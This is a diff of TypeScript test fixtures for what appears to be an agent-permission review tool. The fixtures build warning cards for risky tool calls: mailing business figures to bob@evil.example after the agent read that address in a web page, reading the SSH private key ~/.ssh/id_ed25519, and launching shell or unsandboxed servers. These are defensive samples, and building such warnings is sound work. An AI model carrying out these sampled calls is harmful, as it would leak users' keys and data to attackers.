@@ -1,3 +1,4 @@
+import { keyChips, launchChips, mailChips, mailFlow, ordinaryChips } from './chips.ts';
 import type { CallCard, LaunchCard, ReplyCard } from '../../../src/shared/protocol/webview.ts';
 
 let next = 1;
@@ -44,6 +45,7 @@ export function call(more: Partial<CallCard> = {}): CallCard {
     title: 'Read File',
     description: 'Read the complete contents of a file from the file system as text.',
     effect: 'Reads inside this workspace',
+    chips: ordinaryChips('/path', 'src/app.ts'),
     args,
     complete: true,
     bytes: new TextEncoder().encode(args).length,
@@ -77,8 +79,11 @@ export function mail(more: Partial<CallCard> = {}): CallCard {
         tone: 'warning',
         text: 'This address was seen only in a web page the agent read. Countersign cannot see your chat.',
         path: '/to',
+        flow: true,
       },
     ],
+    chips: mailChips(),
+    flow: mailFlow(),
     offers: [
       { choice: 'deny', label: 'Deny' },
       { choice: 'allow-once', label: 'Allow once' },
@@ -89,6 +94,24 @@ export function mail(more: Partial<CallCard> = {}): CallCard {
       },
     ],
     args: JSON.stringify({ to: 'bob@evil.example', subject: 'Q3 numbers', body: BODY }),
+    ...more,
+  });
+}
+
+/** A call that reads a private key. */
+export function keys(more: Partial<CallCard> = {}): CallCard {
+  return call({
+    effect: 'Reads outside this workspace: ~/.ssh/id_ed25519',
+    notes: [
+      {
+        tone: 'warning',
+        text: '“~/.ssh/id_ed25519” in path: keys, passwords or other secrets lie there',
+        path: '/path',
+      },
+    ],
+    chips: keyChips(),
+    offers: mail().offers,
+    args: '{"path":"~/.ssh/id_ed25519"}',
     ...more,
   });
 }
@@ -126,6 +149,7 @@ export function launch(more: Partial<LaunchCard> = {}): LaunchCard {
     ],
     details: [{ label: 'Identity', value: 'sha256 9f31c0a2…' }],
     effect: 'Runs as you · no sandbox · can read your files',
+    chips: launchChips(),
     argv: ['npx', '-y', '@modelcontextprotocol/server-github'].map((text) => ({
       text,
       tone: 'plain' as const,
@@ -142,6 +166,7 @@ export function shellLaunch(more: Partial<LaunchCard> = {}): LaunchCard {
   return launch({
     server: 'weather',
     notes: [],
+    chips: [],
     argv: [
       { text: 'bash', tone: 'warning', why: 'A shell runs what follows as a script.' },
       { text: '-c', tone: 'plain' },
